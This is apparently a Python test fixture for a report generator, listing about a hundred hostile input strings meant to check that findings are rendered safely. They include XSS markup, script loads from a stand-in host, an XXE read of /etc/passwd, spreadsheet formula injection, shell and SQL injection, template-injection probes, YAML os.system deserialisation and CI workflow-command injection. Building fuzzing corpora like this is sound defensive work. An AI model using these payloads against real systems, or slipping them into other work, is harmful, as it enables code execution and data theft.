"""Texts that try to act where they are shown, and findings whose every text does."""

from generator.findings import Finding, Party, Severity, Span, Waived

KINDS = {
    # Markup that adds an element
    "script": "<script>alert(1)</script>",
    "script in other case": "<ScRiPt >alert(1)</sCrIpT\n>",
    "script from elsewhere": '<script src="//elsewhere.example/x.js"></script>',
    "module": "<script type=module>import('//elsewhere.example/x.js')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image without blanks": "<img/src='x'/onerror=alert(1)//",
    "image never closed": '<img src="x" onerror="alert(1)"',
    "picture of elsewhere": "<picture><source srcset=//elsewhere.example/a.png><img src=//x.example/b></picture>",
    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "SVG that draws itself": "<svg><animate onbegin=alert(1) dur=1s><use href=data:image/svg+xml,x#y></svg>",
    "MathML": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "frame": "<iframe src=javascript:alert(1) srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": "<object data=data:text/html,x></object><embed src=//elsewhere.example/x.swf>",
    "base": "<base href=//elsewhere.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "link": "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "form": "<form action=//elsewhere.example/><button autofocus onfocus=alert(1)>Send</button></form>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video": "<video autoplay src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "template": "<template shadowrootmode=open><slot onslotchange=alert(1)></template>",
    "dialog": "<dialog open><p popover id=x>Sign in</p></dialog>",
    "plaintext": "<plaintext><xmp><listing>",
    # Markup that ends what it stands in
    "end of the article": "</article></body></html><h1>Owned</h1>",
    "end of a cell": "</td></tr></table><table><tr><td onclick=alert(1)>x",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a style": "</style><style>*{display:none}</style>",
    "end of a title": "</title></textarea></noscript></template><script>alert(1)</script>",
    "end of a select": "</option></select><select onfocus=alert(1) autofocus><option selected>x",
    "comment": "<!-- x --><!--> <script>alert(1)</script> --!><!--",
    "declaration": "<!DOCTYPE html SYSTEM x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<?php echo 1 ?>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "sections of XML": "]]> <!-- <x/> &amp; &#0; -->",
    # What ends an attribute
    "end of an attribute": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "end of a quoted attribute": "' onmouseover='alert(1)' style='position:fixed;inset:0' x='",
    "end of a bare attribute": "x onmouseover=alert(1) style=display:none hidden",
    "backquotes": "`onmouseover=alert(1)` `x` ``y`",
    # Characters that are written as others
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &quot;",
    "numbered entities": "&#60;img src=x onerror=alert(1)&#62; &#x3c;b&#x3e; &#0; &#x110000;",
    "percents": "%3Cscript%3Ealert(1)%3C/script%3E %0d%0aSet-Cookie:x %00 %2e%2e%2f",
    "escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cb\\x3e \\74b\\76",
    "look-alikes": "＜script＞alert(1)＜/script＞ ‹b› ﹤b﹥ ʺonclick=alert(1)ʺ",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Addresses
    "address that acts": "javascript:alert(1)",
    "address that acts, hidden": "java\tscript:alert(1)//\nJaVaScRiPt:alert(1) \x01javascript:x &#106;avascript:x",
    "address that holds a page": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "other schemes": "vbscript:msgbox(1) file:///etc/passwd blob:x about:blank view-source:x //elsewhere.example/",
    "address with more": "https://elsewhere.example/?a=1&b=\"'><script>alert(1)</script>#<b>",
    "address of a letter": "mailto:x@example.com?bcc=all@example.com&body=<script>alert(1)</script>",
    # Markdown
    "Markdown links": "[x](javascript:alert(1)) [y](1) [z](data:text/html,x) [v]( \x01javascript:x) <javascript:x>",
    "Markdown images": '![x](//elsewhere.example/x.png) ![y](x "onerror=alert(1)") ![z][z]\n\n[z]: //x.example/z',
    "Markdown links that break out": '[x](https://x.example/"onclick="x) [y](https://x.example/ "t\\"onclick=x")',
    "Markdown blocks": "# Heading\n\n* item\n\n> quote\n\n    code\n\n|a|b|\n|-|-|\n|1|2|\n\n- [x] done\n\n[^1]: note",
    "Markdown fences": "```html\n<script>alert(1)</script>\n```\n~~~ { .x onclick=alert(1) }\n~~~",
    "Markdown attributes": "x{ onclick=alert(1) #x .y style=display:none } {: onclick=alert(1) }\n{: .x }",
    "emphasis without end": "**" * 60 + "_" * 60 + "[" * 60 + "`" * 31,
    "admonition": '!!! danger "<img src=x onerror=alert(1)>"\n    text\n\n??? note\n    x\n\n=== "Tab"\n    y',
    "snippets": '--8<-- "mkdocs.yml"\n-8<- "/etc/passwd"\n;--8<--',
    "shortcodes": ":material-skull: :smile: :octicons-heart-16:{ onclick=alert(1) } :::x\n:::",
    "front matter": "---\ntitle: Owned\ntemplate: x.html\nhide: [toc]\n---\n# x",
    "page break": "\n---\n\n***\n\n<!-- more -->\n\n[TOC]\n",
    # Templates
    "template syntax": "{{ 7*7 }} {% raw %} {# x #} {{ config.__class__.__init__.__globals__ }} {%- endblock -%}",
    "template syntax of others": "${7*7} #{7*7} <%= 7*7 %> {{{x}}} [[7*7]] {{constructor.constructor('alert(1)')()}}",
    "formats": "{0} {1} {{2}} { %s %d %n %(x)s {x!r} {0.__class__}",
    "macro": "{{ macros_info() }} {% include 'base.html' %} {{ include_file('/etc/passwd') }}",
    # Styles
    "style": "<style>@import '//elsewhere.example/x.css'; body{background:url(//elsewhere.example/x.png)}</style>",
    "CSS": "} * { display: none; background: url(//elsewhere.example/x.png) } /* \\3c script */ expression(alert(1))",
    # What data, terminals and other programs would do
    "formula": "=cmd|' /C calc'!A0",
    "formulas": "=1+1 @SUM(1) +1 -1 \t=1 \"quoted\" 'too' \\u0041",
    "hyperlink formula": '=HYPERLINK("//elsewhere.example/"&A1,"x")',
    "CSV": 'a,b;c\t"d""e"\r\n=f',
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:file:///etc/passwd\r\nX;Y=Z:\\n\\,",
    "headers": "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "shell": "$(touch owned) `touch owned` ; touch owned | x > y && z ${IFS} ~ *",
    "SQL": "'; DROP TABLE projects; --",
    "workflow command": "::error file=x.py::owned",
    "workflow commands": "first\n::set-output name=a::b\r\n::stop-commands::x\rlast",
    "workflow escapes": "%0A::error::x %25 %3A %2C",
    "logging commands": "##[add-mask]x ##vso[task.setvariable variable=a]b",
    "separators": "a,b:c=d;e",
    # YAML and paths
    "YAML": "!!python/object/apply:os.system [x] &a *a << ? | > % @ - {a: b} [c] # d: 'e",
    "YAML document": "...\n---\n%YAML 1.1\n- &x [*x]\n<<: *x",
    "JSON": '{"__proto__": {"x": 1}, "constructor": null} \\" \\\\ //',
    "path": "../../../etc/passwd /etc/passwd ..%2f..%2f ./x/../y ~root",
    "Windows path": "C:\\Windows\\System32\\ \\\\elsewhere.example\\share NUL CON.yaml x:y::$DATA",
    "nothing-like": "null",
    "not a number": "NaN",
    "prototype": "__proto__",
    # Characters
    "controls": "\x00\x1b[31mred\x07\x85\u2028\u2029",
    "terminal": "\x1b]8;;file:///x\x07link\x1b]8;;\x07 \x1b[2J \x9b31m \x08\x08\x7f",
    "lone surrogates": "lone \ud800 and \udfff",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff",
    "bidirectional": "\u202etfel ot thgir\u2066",
    "without width": "a\u200bb\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "heaps of accents": "Z" + "\u0351\u0310\u036b\u0327" * 40 + "algo",
    "emoji and planes": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 𝕬𝖑𝖊𝖗𝖙 \U0010fffd",
    "right to left": "\u05e9\u05dc\u05d5\u05dd <b>\u0645\u0631\u062d\u0628\u0627</b> \u200f(1)",
    "blanks": " \t\r\n\x0b\x0c\xa0\u2003\u3000x\u2003 ",
    "long word": "x" * 100_000,
    "long markup": "<b>" * 300,
    "nothing": "",
}
"""Texts that would act somewhere, by what they try: in a page, a style, a script, Markdown, a template, an address,
a spreadsheet, a calendar, a terminal, a log, YAML, or by their characters alone."""

TEXTS = tuple(KINDS.values())


def hostile(text: str, severity: Severity = Severity.ERROR, *, waived: bool = False) -> Finding:
    """A finding that says the text in every place where a file can make it say something."""
    return Finding(
        code="GAT003",
        severity=severity,
        project=f"p{text}",
        file=f"projects/{text}.yaml",
        span=Span(7, 1, 7, 5),
        field=f"gate.{text}",
        message=f"{text}",
        hint=text,
        settled_by=Party.OWNER,
        values=(text,),
        waived=Waived(text, text, text) if waived else None,
    )


def plain(
    code: str = "GAT003", severity: Severity = Severity.ERROR, *, hint: str = "add one", **changes: object
) -> Finding:
    """An ordinary finding."""
    told: dict[str, object] = {
        "project": "triage",
        "file": "projects/triage.yaml",
        "span": Span(7, 1, 7, 5),
        "field": "gate.stop",
        "message": "no Stop row",
        "settled_by": Party.OWNER,
    }
    return Finding(code=code, severity=severity, hint=hint, **{**told, **changes})  # type: ignore[arg-type]
